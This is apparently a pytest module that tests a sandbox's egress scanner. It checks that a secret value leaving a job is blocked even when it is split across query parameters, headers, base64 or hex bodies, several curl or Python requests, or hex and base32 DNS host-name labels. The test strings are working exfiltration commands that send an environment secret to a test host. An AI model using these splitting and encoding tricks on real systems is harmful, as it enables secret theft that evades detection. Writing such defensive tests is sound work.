"""A value of the run that leaves in pieces, by real clients: what completes it is stopped."""

from __future__ import annotations

import secrets

import pytest
from tests.programs.jobs import run_job
from tests.programs.servers import Web
from tests.programs.test_scanned import HOST, assert_hidden, findings, lay_out
from tests.runs.launch import Ended, Place

pytestmark = [pytest.mark.sandbox, pytest.mark.programs]

LABEL = 21
"""Bytes of a value that is a label of a name in hex, which has 63 characters at most."""
URL = f"https://{HOST}/put/x"
ASK = "curl -sS -o answer -w '%{http_code}\\n'"
CUT = "v=$1; a=${v:0:11} b=${v:11:11} c=${v:22}"
PYTHON = f"""
import sys, urllib.request, urllib.error
value, pieces = sys.argv[1], []
for at in range(0, len(value), 8):
    asked = urllib.request.Request("{URL}", data=b"part=" + value[at : at + 8].encode())
    try:
        with urllib.request.urlopen(asked) as answer:
            print(answer.status)
    except urllib.error.HTTPError as refused:
        print(refused.code)
"""

WAYS = {
    "parameters": f'{CUT}; {ASK} "{URL}?a=$a&b=$b&c=$c"',
    "fields": f'{CUT}; {ASK} -H "X-A: $a" -H "X-B: $b" -H "X-C: $c" {URL}',
    "parameters, fields and a body": f'{CUT}; {ASK} -H "X-B: $b" -d "c=$c" "{URL}?a=$a"',
    "a body's parts, in base64": f'{CUT}; e() {{ printf %s $1 | base64; }}; {ASK} -d "a=$(e $a)&b=$(e $b)&c=$c" {URL}',
}
REQUESTS = {
    "curl": f'{CUT}; for each in "$a" "$b" "$c"; do {ASK} "{URL}?part=$each"; done',
    "curl, bodies in hex": f"{CUT}; for each in $a $b $c; do printf %s $each | xxd -p | {ASK} -d @- {URL}; done",
    "python": f"python3 -c '{PYTHON}' \"$1\"",
}
LABELS = {
    "one label": f'{ASK} "http://$(printf %s "$1" | xxd -p | tr -d "\\n").{HOST}/"',
    "several labels": f'{CUT}; h() {{ printf %s "$1" | xxd -p; }}; {ASK} "http://$(h $a).$(h $b).$(h $c).{HOST}/"',
    "base32": f'{ASK} "http://$(printf %s "$1" | base32 -w0 | tr -d = | tr A-Z a-z).{HOST}/"',
}


def send(
    place: Place, web: Web, script: str, *, scan: str = "true", more: str = "", size: int = 24
) -> tuple[Ended, str]:
    """What a run says of it that has a value of random characters, which nothing knows by its form."""
    value = secrets.token_urlsafe(size)
    policy = lay_out(place, web, scan) + f'[[secret]]\nname = "ours"\nfrom = {{ env = "OURS" }}\n{more}'
    return run_job(place, script, value, policy=policy, environment={"OURS": value}), value


def assert_stopped(ended: Ended, value: str) -> None:
    assert "403" in ended.text.split(), ended.err
    assert ("ours", "block") in findings(ended)
    assert_hidden(ended, value)
    assert ended.verify() == 0


@pytest.mark.parametrize("script", WAYS.values(), ids=WAYS)
def test_pieces_in_one_request_are_put_together(place: Place, web: Web, script: str) -> None:
    ended, value = send(place, web, script)
    assert_stopped(ended, value)
    assert web.take_requests() == [], "all of it was in one request, and that did not leave"


@pytest.mark.parametrize("script", REQUESTS.values(), ids=REQUESTS)
def test_the_request_that_completes_a_value_is_stopped(place: Place, web: Web, script: str) -> None:
    ended, value = send(place, web, script)
    assert_stopped(ended, value)
    said = ended.text.split()
    assert said.index("403") > 0, "what came before has gone"
    assert len(web.take_requests()) == len(said) - said.count("403")


@pytest.mark.parametrize("script", LABELS.values(), ids=LABELS)
def test_a_value_in_a_host_name_is_stopped_before_any_lookup(place: Place, web: Web, script: str) -> None:
    """The name has no pin and no address: had anybody been asked for it, the receipt would say so."""
    more = f'[[egress]]\ndestination = "*.{HOST}"\nscan = true\n'
    ended, value = send(place, web, script, more=more, size=LABEL)
    assert_stopped(ended, value)
    blocked = [each for each in ended.receipts if each.facts.get("findings")]
    assert blocked
    assert_hidden(ended, value.encode().hex())
    assert all("dialed" not in each.facts and "addresses" not in each.facts for each in blocked)


def test_asking_for_such_a_name_tells_nobody(place: Place, web: Web) -> None:
    """The stub inside answers of itself; what comes of the address is judged when it is connected to."""
    more = f'[[egress]]\ndestination = "*.{HOST}"\nscan = true\n'
    ask = f'getent ahostsv4 "$(printf %s "$1" | xxd -p | tr -d "\\n").{HOST}"'
    ended, value = send(place, web, ask, more=more, size=LABEL)
    assert ended.text.startswith("198.18."), "an address that is nobody's"
    assert_hidden(ended, value.encode().hex())


def test_without_the_scan_each_of_them_leaves(place: Place, web: Web) -> None:
    """The control."""
    script = "\n".join((*WAYS.values(), *REQUESTS.values()))
    ended, _ = send(place, web, script, scan="false")
    said = ended.text.split()
    assert "403" not in said
    assert len(web.take_requests()) == len(said) > 10
    assert findings(ended) == set()
